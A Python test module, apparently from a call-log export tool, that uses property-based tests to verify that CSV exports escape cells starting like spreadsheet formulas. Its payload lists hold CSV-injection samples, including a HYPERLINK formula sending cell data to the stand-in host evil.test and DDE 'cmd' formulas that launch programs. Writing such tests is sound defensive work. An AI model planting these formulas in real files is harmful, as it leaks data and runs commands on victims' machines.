"""CSV formula injection (issue 21, finding 2.3): no cell of a CSV, the server's export or a
pull's file, starts like a spreadsheet formula, unless it is a number or the caller opted
out; opted out, every value comes back exactly as stored."""

from __future__ import annotations

import copy
import csv
import io
import re
from collections.abc import Callable
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atende_logs.export import encoders
from atende_logs.export.columns import cell, columns, flatten
from atende_logs.export.formulas import FORMULA_STARTS, inert
from atende_logs.http.openapi import example_page
from atende_logs.kinds import CDRS, KINDS

Doc = dict[str, Any]
# What a cell left starting with a formula character may be: a number, which no spreadsheet
# runs (a plain decimal string, or the JSON text of a number, exponent included).
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")

# Text that starts like a formula half of the time: the payloads of the finding included.
dangerous = st.tuples(
    st.sampled_from([*FORMULA_STARTS, "", "", "", "'", " "]),
    st.text(alphabet="=+-@\t\r\n'\",;|!()AZaz09.ãÇ😀", max_size=10),
).map("".join)
payloads = st.sampled_from(
    [
        '=HYPERLINK("http://evil.test/?"&A1,"clique")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-48.3317167",
        "+5511987654321",
        "-",
    ]
)
numbers = (
    st.integers(-(2**53), 2**53)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.decimals(places=4, allow_nan=False, allow_infinity=False).map(str)
)
values = (
    dangerous | payloads | numbers | st.none() | st.booleans() | st.lists(dangerous, max_size=2)
)


@st.composite
def documents(draw: st.DrawFn, kind_name: str) -> Doc:
    """The kind's example with random columns, and fields no column holds, set to values
    that start like formulas, numbers and others."""
    doc: Doc = copy.deepcopy(example_page(KINDS[kind_name])["items"][0])
    for path in draw(st.lists(st.sampled_from(columns(KINDS[kind_name])), max_size=8)):
        *parents, leaf = path.split(".")
        node = doc
        for part in parents:
            if not isinstance(node.get(part), dict):
                node[part] = {}
            node = node[part]
        node[leaf] = draw(values)
    doc.update(draw(st.dictionaries(dangerous.filter(lambda k: "." not in k), values, max_size=2)))
    return doc


def _server(kind_name: str, delimiter: str, escape: bool) -> Callable[[list[Doc]], bytes]:
    encoder = encoders.CsvEncoder(KINDS[kind_name], delimiter, escape_formulas=escape)
    return lambda docs: encoder.head() + encoder.encode([orjson.dumps(d) for d in docs])


def _client(kind_name: str, delimiter: str, escape: bool) -> Callable[[list[Doc]], bytes]:
    encoder = encoders.CsvEncoder(KINDS[kind_name], delimiter, escape_formulas=escape)
    return lambda docs: encoder.head() + encoder.encode_items(docs)


ENCODERS = {"server": _server, "client": _client}


def _rows(body: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline=""), delimiter=delimiter))[1:]


@pytest.mark.parametrize("encoder", list(ENCODERS))
@pytest.mark.parametrize("kind_name", list(KINDS))
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(data=st.data())
def test_no_cell_starts_like_a_formula(
    encoder: str, kind_name: str, delimiter: str, data: st.DataObject
) -> None:
    docs = data.draw(st.lists(documents(kind_name), min_size=1, max_size=3))
    rows = _rows(ENCODERS[encoder](kind_name, delimiter, True)(docs), delimiter)
    assert len(rows) == len(docs)
    for doc, row in zip(docs, rows, strict=True):
        for value, text in zip(flatten(KINDS[kind_name], doc), row, strict=True):
            assert not text.startswith(FORMULA_STARTS) or NUMBER.fullmatch(text), text
            if isinstance(value, str):
                # Nothing is lost: one leading quote, and only where it was needed.
                assert text == value or (text == "'" + value and value.startswith(FORMULA_STARTS))


@pytest.mark.parametrize("encoder", list(ENCODERS))
@pytest.mark.parametrize("kind_name", list(KINDS))
@given(data=st.data())
def test_raw_cells_round_trip_exactly(encoder: str, kind_name: str, data: st.DataObject) -> None:
    docs = data.draw(st.lists(documents(kind_name), min_size=1, max_size=3))
    rows = _rows(ENCODERS[encoder](kind_name, ";", False)(docs), ";")
    assert rows == [[cell(value) for value in flatten(KINDS[kind_name], doc)] for doc in docs]
    strings = [
        (value, text)
        for doc, row in zip(docs, rows, strict=True)
        for value, text in zip(flatten(KINDS[kind_name], doc), row, strict=True)
        if isinstance(value, str)
    ]
    assert all(text == value for value, text in strings)


@pytest.mark.parametrize(
    ("value", "cell_text"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.test")', '\'=HYPERLINK("http://evil.test")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),  # a number, but only plain decimals are exempt
        ("-48,33", "'-48,33"),  # nor a decimal comma
        ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit is not a plain decimal
        ("-48.3317167", "-48.3317167"),  # the spec's ani_long: data, not a formula
        ("+5511987654321", "+5511987654321"),
        ("-0.5", "-0.5"),
        ("7", "7"),
        ("", ""),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("\n=1", "\n=1"),
    ],
)
def test_the_rule(value: str, cell_text: str) -> None:
    assert inert(value) == cell_text


def test_numbers_and_json_cells_are_left_alone() -> None:
    doc = {"ani_long": -48.33, "duration_call": -7, "redirects": ["=x"], "customer_info": None}
    body = _server("cdrs", ",", True)([doc])
    row = dict(zip(columns(CDRS), _rows(body, ",")[0], strict=False))
    assert (row["ani_long"], row["duration_call"]) == ("-48.33", "-7")
    assert row["redirects"] == '["=x"]'  # JSON text starts with [ and runs nothing
